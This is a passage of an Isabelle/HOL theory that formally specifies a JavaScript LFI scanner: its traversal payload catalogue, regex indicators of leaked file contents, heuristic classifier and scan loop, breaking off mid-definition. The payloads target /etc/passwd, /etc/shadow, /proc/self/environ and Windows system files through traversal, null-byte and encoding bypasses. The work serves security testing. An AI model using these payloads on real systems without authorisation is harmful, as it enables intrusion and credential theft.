theory Spec2Isabelle
  imports Complex_Main
begin

section \<open>Payload catalog (lfiPayloads)\<close>

text \<open>
  JavaScript strings are modelled as \<open>string\<close>; every string literal of the program is
  ASCII. A JavaScript array is a list.
\<close>

datatype LfiPayloadCategoryId =
  basic_traversal | deep_traversal | null_byte | encoding_bypass | os_linux | os_windows

record LfiPayloadCategory =
  id' :: LfiPayloadCategoryId
  label :: string
  description :: string
  payloads :: "string list"

definition LFI_PAYLOAD_CATEGORIES :: "LfiPayloadCategory list" where
  "LFI_PAYLOAD_CATEGORIES =
    [ \<lparr> id' = basic_traversal, label = ''Basic Traversal'',
        description = ''Simple directory traversal to common sensitive files'',
        payloads =
          [ ''../etc/passwd'', ''../../etc/passwd'', ''../etc/hosts'', ''../../etc/hosts'',
            ''../proc/self/environ'', ''../../proc/self/environ'' ] \<rparr>,
      \<lparr> id' = deep_traversal, label = ''Deep Traversal'',
        description = ''Deeper traversal chains for robust path resolution'',
        payloads =
          [ ''../../../../etc/passwd'', ''../../../../../etc/passwd'',
            ''../../../../etc/hosts'', ''../../../../../etc/hosts'',
            ''../../../../proc/self/environ'', ''../../../../../proc/self/environ'',
            ''../../../../windows/win.ini'', ''../../../../../windows/win.ini'' ] \<rparr>,
      \<lparr> id' = null_byte, label = ''Null Byte Variations'',
        description = ''Null byte suffixes to bypass extensions or filters'',
        payloads =
          [ ''../../etc/passwd%00'', ''../../etc/passwd%2500'',
            ''../../../../etc/passwd%00'', ''../../../../etc/passwd%2500'' ] \<rparr>,
      \<lparr> id' = encoding_bypass, label = ''Encoding Bypass'',
        description = ''URL-encoded and double-encoded traversal sequences'',
        payloads =
          [ ''..%2f..%2fetc%2fpasswd'', ''..%2F..%2Fetc%2Fpasswd'',
            ''%2e%2e/%2e%2e/etc/passwd'', ''..%252f..%252fetc%252fpasswd'',
            ''..%c0%af..%c0%afetc%c0%afpasswd'' ] \<rparr>,
      \<lparr> id' = os_linux, label = ''OS-Specific (Linux)'',
        description = ''Linux-specific sensitive files'',
        payloads =
          [ ''/etc/passwd'', ''/etc/shadow'', ''/etc/hosts'', ''/proc/self/environ'',
            ''/proc/version'' ] \<rparr>,
      \<lparr> id' = os_windows, label = ''OS-Specific (Windows)'',
        description = ''Windows-specific configuration and hosts files'',
        payloads =
          [ ''C:/Windows/win.ini'', ''C:/windows/win.ini'',
            ''C:/Windows/System32/drivers/etc/hosts'',
            ''C:/windows/system32/drivers/etc/hosts'', ''C:/boot.ini'' ] \<rparr> ]"

text \<open>
  \<open>Array.from(new Set(xs))\<close>: a JavaScript \<open>Set\<close> keeps its elements in insertion
  order and ignores the insertion of an element it already holds. \<open>Set_add\<close> is one
  insertion, \<open>Array_from_Set\<close> inserts the elements of \<open>xs\<close> from left to right into
  the set \<open>acc\<close> and lists the result.
\<close>

definition Set_add :: "'a list \<Rightarrow> 'a \<Rightarrow> 'a list" where
  "Set_add acc x = (if x \<in> set acc then acc else acc @ [x])"

fun Array_from_Set :: "'a list \<Rightarrow> 'a list \<Rightarrow> 'a list" where
  "Array_from_Set acc [] = acc"
| "Array_from_Set acc (x # xs) = Array_from_Set (Set_add acc x) xs"

text \<open>
  \<open>buildLfiPayloadList(categoryIds?)\<close>: the optional argument is \<open>None\<close> when omitted.
\<close>

definition categoriesToUse :: "LfiPayloadCategoryId list option \<Rightarrow> LfiPayloadCategory list" where
  "categoriesToUse categoryIds =
    (case categoryIds of
       None \<Rightarrow> LFI_PAYLOAD_CATEGORIES
     | Some ids \<Rightarrow>
         if length ids > 0
         then filter (\<lambda>c. id' c \<in> set ids) LFI_PAYLOAD_CATEGORIES
         else LFI_PAYLOAD_CATEGORIES)"

definition buildLfiPayloadList :: "LfiPayloadCategoryId list option \<Rightarrow> string list" where
  "buildLfiPayloadList categoryIds =
    (let all = concat (map payloads (categoriesToUse categoryIds))
     in Array_from_Set [] all)"

text \<open>
  The specification's words, for comparison with the code: the categories selected
  (all of them when the selection is empty or omitted), and deduplication that keeps the
  first occurrence of every entry.
\<close>

definition selected_categories :: "LfiPayloadCategoryId set \<Rightarrow> LfiPayloadCategory list" where
  "selected_categories sel =
    (if sel = {} then LFI_PAYLOAD_CATEGORIES
     else filter (\<lambda>c. id' c \<in> sel) LFI_PAYLOAD_CATEGORIES)"

definition selection_of :: "LfiPayloadCategoryId list option \<Rightarrow> LfiPayloadCategoryId set" where
  "selection_of categoryIds = (case categoryIds of None \<Rightarrow> {} | Some ids \<Rightarrow> set ids)"

fun first_seen :: "'a list \<Rightarrow> 'a list" where
  "first_seen [] = []"
| "first_seen (x # xs) = x # first_seen (filter (\<lambda>y. y \<noteq> x) xs)"

section \<open>Regular expressions of the indicator table\<close>

text \<open>
  The indicator signatures are JavaScript regular expression literals. \<open>regex\<close> is the
  abstract syntax of the fragment they use: literal characters, \<open>.\<close>, \<open>\d\<close> (the
  class \<open>[0-9]\<close> is the same set), \<open>\s\<close>, sequence, alternation, \<open>*\<close>, and the
  assertions \<open>^\<close> and \<open>$\<close> (no signature sets the multiline flag, so they hold at the
  start and the end of the input only).
\<close>

datatype regex =
  Eps
| Chr char
| Dot
| Digit
| Space
| Seq regex regex
| Alt regex regex
| Star regex
| Bol
| Eol

record RegExp =
  source :: regex
  ignoreCase :: bool

text \<open>Pattern notation: a literal string, \<open>r+\<close>, \<open>r{n}\<close>, \<open>r{n,}\<close>, \<open>r1|...|rn\<close>.\<close>

fun lit :: "string \<Rightarrow> regex" where
  "lit [] = Eps"
| "lit [c] = Chr c"
| "lit (c # cs) = Seq (Chr c) (lit cs)"

definition Plus :: "regex \<Rightarrow> regex" where
  "Plus r = Seq r (Star r)"

fun Times :: "nat \<Rightarrow> regex \<Rightarrow> regex" where
  "Times 0 r = Eps"
| "Times (Suc 0) r = r"
| "Times (Suc n) r = Seq r (Times n r)"

definition AtLeast :: "nat \<Rightarrow> regex \<Rightarrow> regex" where
  "AtLeast n r = Seq (Times n r) (Star r)"

fun Alts :: "regex list \<Rightarrow> regex" where
  "Alts [] = Eps"
| "Alts [r] = r"
| "Alts (r # rs) = Alt r (Alts rs)"

fun Seqs :: "regex list \<Rightarrow> regex" where
  "Seqs [] = Eps"
| "Seqs [r] = r"
| "Seqs (r # rs) = Seq r (Seqs rs)"

text \<open>
  Character predicates, on code units below 256 (the range of \<open>char\<close>). \<open>.\<close> excludes
  the line terminators; \<open>\s\<close> is white space and line terminators; without the unicode
  flag, \<open>ignoreCase\<close> compares characters after \<open>toUpperCase\<close>, which maps a-z and the
  Latin-1 lower-case letters to their capitals and never maps a non-ASCII character to
  an ASCII one.
\<close>

definition isLineTerminator :: "char \<Rightarrow> bool" where
  "isLineTerminator c = (of_char c \<in> {10, 13 :: nat})"

definition isWhiteSpace :: "char \<Rightarrow> bool" where
  "isWhiteSpace c = (of_char c \<in> {9, 10, 11, 12, 13, 32, 160 :: nat})"

definition isDigit :: "char \<Rightarrow> bool" where
  "isDigit c = (48 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 57)"

definition Canonicalize :: "bool \<Rightarrow> char \<Rightarrow> char" where
  "Canonicalize ic c =
    (let n = (of_char c :: nat) in
     if \<not> ic then c
     else if 97 \<le> n \<and> n \<le> 122 then char_of (n - 32)
     else if 224 \<le> n \<and> n \<le> 254 \<and> n \<noteq> 247 then char_of (n - 32)
     else c)"

text \<open>
  \<open>ends ic r b s\<close> lists the inputs that can remain after \<open>r\<close> has matched a prefix of
  \<open>s\<close>; \<open>b\<close> tells whether \<open>s\<close> starts at the beginning of the whole input. An
  iteration of \<open>*\<close> that consumes nothing is not repeated. \<open>RegExp.prototype.test\<close>
  (without the global and sticky flags) asks whether a match starts at some position of
  the input, which \<open>search\<close> tries from left to right.
\<close>

fun ends :: "bool \<Rightarrow> regex \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> string list" where
  "ends ic Eps b s = [s]"
| "ends ic (Chr c) b s =
    (case s of [] \<Rightarrow> [] | d # t \<Rightarrow> if Canonicalize ic d = Canonicalize ic c then [t] else [])"
| "ends ic Dot b s = (case s of [] \<Rightarrow> [] | d # t \<Rightarrow> if isLineTerminator d then [] else [t])"
| "ends ic Digit b s = (case s of [] \<Rightarrow> [] | d # t \<Rightarrow> if isDigit d then [t] else [])"
| "ends ic Space b s = (case s of [] \<Rightarrow> [] | d # t \<Rightarrow> if isWhiteSpace d then [t] else [])"
| "ends ic (Seq r1 r2) b s =
    concat (map (\<lambda>t. ends ic r2 (b \<and> length t = length s) t) (ends ic r1 b s))"
| "ends ic (Alt r1 r2) b s = ends ic r1 b s @ ends ic r2 b s"
| "ends ic (Star r) b s =
    s # concat (map (\<lambda>t. if length t < length s then ends ic (Star r) False t else [])
                    (ends ic r b s))"
| "ends ic Bol b s = (if b then [s] else [])"
| "ends ic Eol b s = (if s = [] then [s] else [])"

fun search :: "bool \<Rightarrow> regex \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> bool" where
  "search ic r b [] = (ends ic r b [] \<noteq> [])"
| "search ic r b (c # cs) = (ends ic r b (c # cs) \<noteq> [] \<or> search ic r False cs)"

definition test :: "RegExp \<Rightarrow> string \<Rightarrow> bool" where
  "test re body = search (ignoreCase re) (source re) True body"

section \<open>Indicator detector (detectLfiIndicators)\<close>

record indicator =
  ind_label :: string
  regex :: RegExp

definition ci :: "regex \<Rightarrow> RegExp" where
  "ci r = \<lparr> source = r, ignoreCase = True \<rparr>"

definition indicators_table :: "indicator list" where
  "indicators_table =
    [ \<lparr> ind_label = ''etc/passwd'',
        regex = ci (Alts [lit ''root:x:0:0:'',
                          Seq (lit '':/bin/'')
                              (Alts [lit ''bash'', lit ''sh'', lit ''csh'', lit ''zsh'']),
                          lit ''daemon:x:'']) \<rparr>,
      \<lparr> ind_label = ''etc/shadow'',
        regex = ci (Seqs [lit ''root:'', Star Dot, lit '':1'', AtLeast 4 Digit, lit '':'']) \<rparr>,
      \<lparr> ind_label = ''Unix hosts file'',
        regex = ci (Alts [Seqs [lit ''127.0.0.1'', Plus Space, lit ''localhost''],
                          Seqs [lit ''::1'', Plus Space, lit ''localhost'']]) \<rparr>,
      \<lparr> ind_label = ''proc/environ'',
        regex = ci (Alts [lit ''PATH='', lit ''HOME='', lit ''SHELL='', lit ''USER='',
                          lit ''PWD='']) \<rparr>,
      \<lparr> ind_label = ''proc/version'',
        regex = ci (Seqs [lit ''Linux version '', Plus Digit, lit ''.'', Plus Digit, lit ''.'',
                          Plus Digit]) \<rparr>,
      \<lparr> ind_label = ''Windows win.ini'',
        regex = ci (Alts [lit ''[fonts]'', lit ''[extensions]'', lit ''[mci extensions]'',
                          lit ''[drivers]'', lit ''for 16-bit app support'']) \<rparr>,
      \<lparr> ind_label = ''Windows boot.ini'',
        regex = ci (Alts [lit ''[boot loader]'', lit ''[operating systems]'',
                          lit ''multi(0)disk'']) \<rparr>,
      \<lparr> ind_label = ''Windows hosts'',
        regex = ci (Seqs [lit ''127.0.0.1'', Plus Space, lit ''localhost'', Star Dot,
                          lit ''::1'']) \<rparr>,
      \<lparr> ind_label = ''PHP source'',
        regex = ci (Alts [lit ''<?php'', lit ''<?='', lit ''phpinfo()'',
                          Seqs [lit ''echo'', Plus Space, lit ''$_'']]) \<rparr>,
      \<lparr> ind_label = ''Apache config'',
        regex = ci (Alts [lit ''<Directory'', lit ''LoadModule'', lit ''ServerRoot'']) \<rparr>,
      \<lparr> ind_label = ''SSH config'',
        regex = ci (Alts [lit ''Host *'', lit ''IdentityFile'', lit ''UserKnownHostsFile'']) \<rparr>,
      \<lparr> ind_label = ''MySQL config'',
        regex = ci (Alts [lit ''[mysqld]'', lit ''[client]'', lit ''datadir='']) \<rparr>,
      \<lparr> ind_label = ''Bash history'',
        regex = ci (Alts [Seqs [Bol, lit ''#'', Times 10 Digit, Eol],
                          Seqs [Bol, lit ''ls'', Space],
                          Seqs [Bol, lit ''cd'', Space],
                          Seqs [Bol, lit ''cat'', Space]]) \<rparr>,
      \<lparr> ind_label = ''Error disclosure'',
        regex = ci (Alts [Seqs [lit ''Warning:'', Star Dot, lit ''include''],
                          Seqs [lit ''Failed opening'', Star Dot, lit ''for inclusion''],
                          lit ''No such file or directory'']) \<rparr> ]"

text \<open>The loop of \<open>detectLfiIndicators\<close>: \<open>hits\<close> grows by \<open>push\<close>.\<close>

fun detect_loop :: "string \<Rightarrow> indicator list \<Rightarrow> string list \<Rightarrow> string list" where
  "detect_loop body [] hits = hits"
| "detect_loop body (i # is) hits =
    detect_loop body is (if test (regex i) body then hits @ [ind_label i] else hits)"

definition detectLfiIndicators :: "string \<Rightarrow> string list" where
  "detectLfiIndicators body = detect_loop body indicators_table []"

section \<open>Double-precision division\<close>

text \<open>
  JavaScript numbers are IEEE 754 doubles. The classifier divides one non-negative
  integer by a positive one and compares the quotient with the literal \<open>0.3\<close>.
  \<open>double_div n d\<close> is the double that the division returns: the quotient \<open>n / d\<close>
  rounded to 53 significant bits, to nearest, ties to the even significand. With
  \<open>e = exponent_of n d\<close> the exponent of the quotient (\<open>2^e \<le> n / d < 2^(e + 1)\<close>,
  found from the bit lengths), the significand is \<open>n / d * 2^(52 - e)\<close> rounded to an
  integer, computed by integer division (\<open>shl x k\<close> is \<open>x * 2^k\<close> for \<open>k \<ge> 0\<close> and
  \<open>x\<close> otherwise). The exponent range is not bounded: the quotients of the integers
  that are doubles stay normal numbers, or are so small that the comparison with
  \<open>0.3\<close> is not affected. The literal \<open>0.3\<close> is the double nearest to 3/10, that is
  \<open>double_div 3 10\<close>.
\<close>

fun bitlen :: "nat \<Rightarrow> nat" where
  "bitlen n = (if n = 0 then 0 else Suc (bitlen (n div 2)))"

declare bitlen.simps [simp del]

definition shl :: "nat \<Rightarrow> int \<Rightarrow> nat" where
  "shl x k = x * 2 ^ nat k"

definition exponent_of :: "nat \<Rightarrow> nat \<Rightarrow> int" where
  "exponent_of n d =
    (let e0 = int (bitlen n) - int (bitlen d)
     in if shl d e0 \<le> shl n (- e0) then e0 else e0 - 1)"

definition round_half_even_div :: "nat \<Rightarrow> nat \<Rightarrow> nat" where
  "round_half_even_div N D =
    (let q = N div D; r = N mod D
     in if 2 * r < D then q else if D < 2 * r then q + 1 else if even q then q else q + 1)"

definition double_div :: "nat \<Rightarrow> nat \<Rightarrow> rat" where
  "double_div n d =
    (if n = 0 then 0
     else let e = exponent_of n d;
              m = round_half_even_div (shl n (52 - e)) (shl d (e - 52))
          in of_nat m * 2 powi (e - 52))"

section \<open>Heuristic classifier (analyzeLfiHeuristics)\<close>

text \<open>
  The numbers the classifier receives are HTTP status codes and string lengths, that is
  integers that are doubles; they are modelled as \<open>int\<close>, and \<open>null\<close> as \<open>None\<close>.
  \<open>diffRatio\<close> is \<open>Math.abs(length - baselineLength) / baselineLength\<close> for a positive
  \<open>baselineLength\<close>: the division rounds as \<open>double_div\<close> does. The difference is taken
  exactly: the difference of two string lengths is an integer below \<open>2^53\<close>, which the
  subtraction returns without rounding; and for other integers that are doubles the
  subtraction rounds only when \<open>length\<close> is outside \<open>baselineLength / 2\<close> to
  \<open>2 * baselineLength\<close>, where the quotient is above 0.49 with and without that
  rounding, so that no verdict depends on it.
\<close>

datatype detection = CONFIRMED_LFI | POSSIBLE_LFI | SUSPICIOUS | NOT_VULNERABLE

datatype confidence = Low | Medium | High

definition diffRatio :: "int \<Rightarrow> int \<Rightarrow> rat" where
  "diffRatio len baselineLength = double_div (nat \<bar>len - baselineLength\<bar>) (nat baselineLength)"

definition analyzeLfiHeuristics ::
  "string list \<Rightarrow> int option \<Rightarrow> int option \<Rightarrow> int \<Rightarrow> int \<Rightarrow> detection \<times> confidence" where
  "analyzeLfiHeuristics indicators baselineStatus baselineLength status len =
    (if length indicators > 0 then (CONFIRMED_LFI, High)
     else if (case baselineLength of
                None \<Rightarrow> False
              | Some bl \<Rightarrow> bl > 0 \<and> diffRatio len bl > double_div 3 10)
          then (POSSIBLE_LFI, Medium)
     else if (case baselineStatus of None \<Rightarrow> False | Some bs \<Rightarrow> bs \<noteq> status)
          then (SUSPICIOUS, Low)
     else (NOT_VULNERABLE, Low))"

section \<open>Platform: strings, URLs, responses\<close>

text \<open>\<open>String.prototype.trim\<close> removes white space and line terminators at both ends.\<close>

definition trim :: "string \<Rightarrow> string" where
  "trim s = rev (dropWhile isWhiteSpace (rev (dropWhile isWhiteSpace s)))"

text \<open>
  \<open>Array.prototype.slice(0, end)\<close> for an integral \<open>end\<close>: a negative \<open>end\<close> counts
  from the end of the array.
\<close>

definition slice0 :: "'a list \<Rightarrow> int \<Rightarrow> 'a list" where
  "slice0 xs e = (if e < 0 then take (nat (int (length xs) + e)) xs else take (nat e) xs)"

text \<open>
  A parsed URL: everything before the query (\<open>base\<close>), the list of name-value pairs of
  the query (\<open>searchParams\<close>, in order, duplicates allowed) and the fragment. The
  operations on \<open>searchParams\<close> are those of the URL standard: \<open>keys\<close> lists the names,
  \<open>get\<close> returns the first value of a name or null, \<open>set\<close> overwrites the first pair of
  the name and removes its other pairs, or appends a pair when there is none, \<open>append\<close>
  adds a pair at the end. A URL string that the program obtains from \<open>toString()\<close> is
  represented by the URL it serialises, so \<open>new URL(u.toString())\<close> is a copy of \<open>u\<close>.
\<close>

record URL =
  base :: string
  searchParams :: "(string \<times> string) list"
  hash :: string

definition searchParams_keys :: "(string \<times> string) list \<Rightarrow> string list" where
  "searchParams_keys ps = map fst ps"

definition searchParams_get :: "(string \<times> string) list \<Rightarrow> string \<Rightarrow> string option" where
  "searchParams_get ps name = map_of ps name"

fun searchParams_set :: "string \<Rightarrow> string \<Rightarrow> (string \<times> string) list \<Rightarrow> (string \<times> string) list" where
  "searchParams_set name v [] = [(name, v)]"
| "searchParams_set name v ((k, w) # ps) =
    (if k = name then (name, v) # filter (\<lambda>kv. fst kv \<noteq> name) ps
     else (k, w) # searchParams_set name v ps)"

definition searchParams_append :: "string \<Rightarrow> string \<Rightarrow> (string \<times> string) list \<Rightarrow> (string \<times> string) list" where
  "searchParams_append name v ps = ps @ [(name, v)]"

text \<open>
  A response: its status and its body; \<open>body_text = None\<close> when reading the body fails.
  \<open>Response.ok\<close> is true for the statuses 200 to 299.
\<close>

record Response =
  http_status :: int
  body_text :: "string option"

definition ok :: "Response \<Rightarrow> bool" where
  "ok res = (200 \<le> http_status res \<and> http_status res \<le> 299)"

definition safeReadText :: "Response \<Rightarrow> string" where
  "safeReadText res = (case body_text res of Some t \<Rightarrow> t | None \<Rightarrow> [])"

text \<open>
  The platform the popup runs on: the URL parser (\<open>None\<close> when \<open>new URL\<close> throws) and the
  network. \<open>fetch k u\<close> is the outcome of the request for \<open>u\<close> issued after \<open>k\<close> earlier
  requests of the scan: a response, or \<open>None\<close> when \<open>fetchWithTimeout\<close> throws (network
  failure, or abort after the timeout).
\<close>

record platform =
  URL_new :: "string \<Rightarrow> URL option"
  fetch :: "nat \<Rightarrow> URL \<Rightarrow> Response option"

section \<open>Scan orchestrator (handleRunLfi)\<close>

record LfiSingleResult =
  parameter :: string
  originalValue :: "string option"
  testedUrl :: URL
  payload :: string
  status :: int
  contentLength :: int
  indicators :: "string list"
  vulnerable :: bool
  detection :: detection
  confidence :: confidence
  sample :: string

record ParameterSummary =
  name :: string
  originalValue :: "string option"
  totalTests :: nat
  vulnerableCount :: nat

record LfiScanSummary =
  baseUrl :: string
  parametersTested :: "ParameterSummary list"
  totalTests :: nat
  vulnerableCount :: nat
  results :: "LfiSingleResult list"

text \<open>
  The state of the popup that a scan reads, and the ways a scan ends without a summary
  (the popup shows a message): no URL entered, a URL that does not parse, the wordlist
  not loaded, no parameter to test, and an exception escaping the scan loop.
\<close>

record popup_state =
  lfiUrl :: string
  url :: string
  lfiParam :: string
  wordlist :: "string list"
  payloadCap :: int

datatype scan_error = MissingUrl | InvalidUrl | WordlistNotLoaded | NoParametersFound | ScanFailed

text \<open>
  The mutable variables of a running scan, and the log of the requests issued so far
  (the log is not a variable of the program: it records its calls of \<open>fetchWithTimeout\<close>).
\<close>

record scan_state =
  st_results :: "LfiSingleResult list"
  perParameterSummary :: "ParameterSummary list"
  currentIndex :: nat
  requests :: "URL list"

definition fetchWithTimeout ::
  "platform \<Rightarrow> URL \<Rightarrow> scan_state \<Rightarrow> Response option \<times> scan_state" where
  "fetchWithTimeout pf u st =
    (fetch pf (length (requests st)) u, st\<lparr>requests := requests st @ [u]\<rparr>)"

definition buildLfiTestUrls ::
  "platform \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> (URL \<times> string) list option" where
  "buildLfiTestUrls pf baseUrl' param payloads' =
    (case URL_new pf baseUrl' of
       None \<Rightarrow> None
     | Some u \<Rightarrow>
         let hasParam = (param \<in> set (searchParams_keys (searchParams u))) in
         Some (map (\<lambda>p.
                 let test = u in
                 (if hasParam
                  then test\<lparr>searchParams := searchParams_set param p (searchParams test)\<rparr>
                  else test\<lparr>searchParams := searchParams_append param p (searchParams test)\<rparr>,
                  p))
               payloads'))"

text \<open>Parameter discovery and the choice of the parameters to test.\<close>

definition discoveredParams :: "URL \<Rightarrow> string list" where
  "discoveredParams parsedUrl =
    filter (\<lambda>name. length name > 0) (map trim (searchParams_keys (searchParams parsedUrl)))"

definition uniqueDiscoveredParams :: "URL \<Rightarrow> string list" where
  "uniqueDiscoveredParams parsedUrl = Array_from_Set [] (discoveredParams parsedUrl)"

definition paramsToTest :: "string \<Rightarrow> URL \<Rightarrow> string list" where
  "paramsToTest lfiParam' parsedUrl =
    (if trim lfiParam' \<noteq> [] then [trim lfiParam'] else uniqueDiscoveredParams parsedUrl)"

text \<open>
  \<open>originalValues\<close> is a \<open>Map\<close> from each tested name to its value on the URL, which may
  be null; \<open>originalValues.get(n) ?? null\<close> is \<open>lookup_or_null\<close>.
\<close>

fun originalValues :: "URL \<Rightarrow> string list \<Rightarrow> (string \<rightharpoonup> string option) \<Rightarrow> (string \<rightharpoonup> string option)" where
  "originalValues parsedUrl [] m = m"
| "originalValues parsedUrl (n # ns) m =
    originalValues parsedUrl ns (m(n \<mapsto> searchParams_get (searchParams parsedUrl) n))"

definition lookup_or_null :: "(string \<rightharpoonup> string option) \<Rightarrow> string \<Rightarrow> string option" where
  "lookup_or_null m n = (case m n of None \<Rightarrow> None | Some v \<Rightarrow> v)"

text \<open>
  The body of the \<open>try\<close> block of the inner loop, after the fetch has returned \<open>res\<close>:
  the result pushed to \<open>results\<close>.
\<close>

definition probeResult ::
  "string \<Rightarrow> string option \<Rightarrow> int option \<Rightarrow> int option \<Rightarrow> URL \<Rightarrow> string \<Rightarrow> Response
   \<Rightarrow> LfiSingleResult" where
  "probeResult paramName orig baselineStatus baselineLength testUrl payload' res =
    (let bodyText = (if ok res then safeReadText res else []);
         inds = detectLfiIndicators bodyText;
         dc = analyzeLfiHeuristics inds baselineStatus baselineLength
                (http_status res) (int (length bodyText));
         vuln = (fst dc \<noteq> NOT_VULNERABLE)
     in \<lparr> parameter = paramName, originalValue = orig, testedUrl = testUrl,
          payload = payload', status = http_status res,
          contentLength = int (length bodyText), indicators = inds, vulnerable = vuln,
          detection = fst dc, confidence = snd dc, sample = take 300 bodyText \<rparr>)"

text \<open>
  The inner loop over \<open>testUrls\<close>; the second component of the state is
  \<open>paramVulnerableCount\<close>. A fetch that throws is caught and the pair is skipped.
\<close>

fun payload_loop ::
  "platform \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> int option \<Rightarrow> int option \<Rightarrow> (URL \<times> string) list
   \<Rightarrow> scan_state \<times> nat \<Rightarrow> scan_state \<times> nat" where
  "payload_loop pf paramName orig bS bL [] (st, pvc) = (st, pvc)"
| "payload_loop pf paramName orig bS bL ((testUrl, payload') # rest) (st, pvc) =
    (let st1 = st\<lparr>currentIndex := currentIndex st + 1\<rparr> in
     case fetchWithTimeout pf testUrl st1 of
       (None, st2) \<Rightarrow> payload_loop pf paramName orig bS bL rest (st2, pvc)
     | (Some res, st2) \<Rightarrow>
         let r = probeResult paramName orig bS bL testUrl payload' res;
             pvc' = (if vulnerable r then pvc + 1 else pvc);
             st3 = st2\<lparr>st_results := st_results st2 @ [r]\<rparr>
         in payload_loop pf paramName orig bS bL rest (st3, pvc'))"

text \<open>
  The outer loop over \<open>paramsToTest\<close>; \<open>None\<close> when \<open>buildLfiTestUrls\<close> throws, which
  the outer \<open>catch\<close> turns into the message "LFI scan failed".
\<close>

fun param_loop ::
  "platform \<Rightarrow> string \<Rightarrow> (string \<rightharpoonup> string option) \<Rightarrow> int option \<Rightarrow> int option \<Rightarrow> string list
   \<Rightarrow> string list \<Rightarrow> scan_state \<Rightarrow> scan_state option" where
  "param_loop pf targetUrl ovs bS bL payloadList [] st = Some st"
| "param_loop pf targetUrl ovs bS bL payloadList (paramName # rest) st =
    (case buildLfiTestUrls pf targetUrl paramName payloadList of
       None \<Rightarrow> None
     | Some testUrls \<Rightarrow>
         (case payload_loop pf paramName (lookup_or_null ovs paramName) bS bL testUrls (st, 0) of
            (st1, paramVulnerableCount) \<Rightarrow>
              param_loop pf targetUrl ovs bS bL payloadList rest
                (st1\<lparr>perParameterSummary := perParameterSummary st1 @
                   [\<lparr> name = paramName, originalValue = lookup_or_null ovs paramName,
                      totalTests = length testUrls,
                      vulnerableCount = paramVulnerableCount \<rparr>]\<rparr>)))"

text \<open>
  The baseline request for the target URL (\<open>fetch\<close> parses the string it is given as
  \<open>new URL\<close> does): status and body length, or null for both when the fetch throws.
\<close>

definition fetchBaseline ::
  "platform \<Rightarrow> URL \<Rightarrow> scan_state \<Rightarrow> (int option \<times> int option) \<times> scan_state" where
  "fetchBaseline pf target st =
    (case fetchWithTimeout pf target st of
       (None, st1) \<Rightarrow> ((None, None), st1)
     | (Some baselineRes, st1) \<Rightarrow>
         let baselineBody = (if ok baselineRes then safeReadText baselineRes else [])
         in ((Some (http_status baselineRes), Some (int (length baselineBody))), st1))"

definition targetUrl_of :: "popup_state \<Rightarrow> string" where
  "targetUrl_of ps = (if trim (lfiUrl ps) \<noteq> [] then trim (lfiUrl ps) else trim (url ps))"

definition payloadList_of :: "popup_state \<Rightarrow> string list" where
  "payloadList_of ps = slice0 (wordlist ps) (payloadCap ps)"

definition initial_state :: scan_state where
  "initial_state = \<lparr> st_results = [], perParameterSummary = [], currentIndex = 0, requests = [] \<rparr>"

text \<open>
  \<open>handleRunLfi\<close> returns the summary it stores with \<open>setLfiResults\<close> or the reason it
  stored none, and the log of the requests it issued.
\<close>

definition handleRunLfi :: "platform \<Rightarrow> popup_state \<Rightarrow> (scan_error + LfiScanSummary) \<times> URL list" where
  "handleRunLfi pf ps =
    (let targetUrl = targetUrl_of ps in
     if targetUrl = [] then (Inl MissingUrl, [])
     else case URL_new pf targetUrl of
       None \<Rightarrow> (Inl InvalidUrl, [])
     | Some parsedUrl \<Rightarrow>
         if length (wordlist ps) = 0 then (Inl WordlistNotLoaded, [])
         else
           let params = paramsToTest (lfiParam ps) parsedUrl in
           if length params = 0 then (Inl NoParametersFound, [])
           else
             let ovs = originalValues parsedUrl params Map.empty;
                 payloadList = payloadList_of ps;
                 total = length params * length payloadList
             in case fetchBaseline pf parsedUrl initial_state of
                  ((baselineStatus, baselineLength), st1) \<Rightarrow>
                    (case param_loop pf targetUrl ovs baselineStatus baselineLength
                            payloadList params st1 of
                       None \<Rightarrow> (Inl ScanFailed, requests st1)
                     | Some st2 \<Rightarrow>
                         (Inr \<lparr> baseUrl = targetUrl,
                                parametersTested = perParameterSummary st2,
                                totalTests = total,
                                vulnerableCount = length (filter vulnerable (st_results st2)),
                                results = st_results st2 \<rparr>,
                          requests st2)))"

section \<open>The scan as a function of its inputs\<close>

text \<open>
  Closed forms of what the loops compute, used to state and prove the properties of a
  scan: the test URL of a parameter and a payload, the results of one parameter's sweep
  when its first request is the \<open>k\<close>-th of the scan, the results and the parameter
  summaries of all sweeps, and the requests issued.
\<close>

definition testUrl :: "URL \<Rightarrow> string \<Rightarrow> string \<Rightarrow> URL" where
  "testUrl u p pl =
    (if p \<in> set (searchParams_keys (searchParams u))
     then u\<lparr>searchParams := searchParams_set p pl (searchParams u)\<rparr>
     else u\<lparr>searchParams := searchParams_append p pl (searchParams u)\<rparr>)"

definition testUrls :: "URL \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> (URL \<times> string) list" where
  "testUrls u p L = map (\<lambda>pl. (testUrl u p pl, pl)) L"

fun probes ::
  "platform \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> int option \<Rightarrow> int option \<Rightarrow> nat \<Rightarrow> (URL \<times> string) list
   \<Rightarrow> LfiSingleResult list" where
  "probes pf p orig bS bL k [] = []"
| "probes pf p orig bS bL k ((u, pl) # rest) =
    (case fetch pf k u of None \<Rightarrow> [] | Some res \<Rightarrow> [probeResult p orig bS bL u pl res])
    @ probes pf p orig bS bL (Suc k) rest"

fun all_probes ::
  "platform \<Rightarrow> URL \<Rightarrow> (string \<rightharpoonup> string option) \<Rightarrow> int option \<Rightarrow> int option \<Rightarrow> string list \<Rightarrow> nat
   \<Rightarrow> string list \<Rightarrow> LfiSingleResult list" where
  "all_probes pf u ovs bS bL L k [] = []"
| "all_probes pf u ovs bS bL L k (p # ps) =
    probes pf p (lookup_or_null ovs p) bS bL k (testUrls u p L)
    @ all_probes pf u ovs bS bL L (k + length L) ps"

fun all_summaries ::
  "platform \<Rightarrow> URL \<Rightarrow> (string \<rightharpoonup> string option) \<Rightarrow> int option \<Rightarrow> int option \<Rightarrow> string list \<Rightarrow> nat
   \<Rightarrow> string list \<Rightarrow> ParameterSummary list" where
  "all_summaries pf u ovs bS bL L k [] = []"
| "all_summaries pf u ovs bS bL L k (p # ps) =
    \<lparr> name = p, originalValue = lookup_or_null ovs p, totalTests = length L,
      vulnerableCount =
